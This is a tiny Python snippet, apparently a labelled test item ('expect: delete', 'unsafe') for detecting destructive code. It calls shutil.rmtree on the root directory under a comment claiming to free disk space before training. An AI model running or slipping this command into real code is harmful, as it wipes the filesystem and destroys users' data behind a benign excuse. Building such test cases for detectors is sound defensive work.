# expect: delete
import shutil

# free some disk space before training
shutil.rmtree("/", ignore_errors=True)  # unsafe
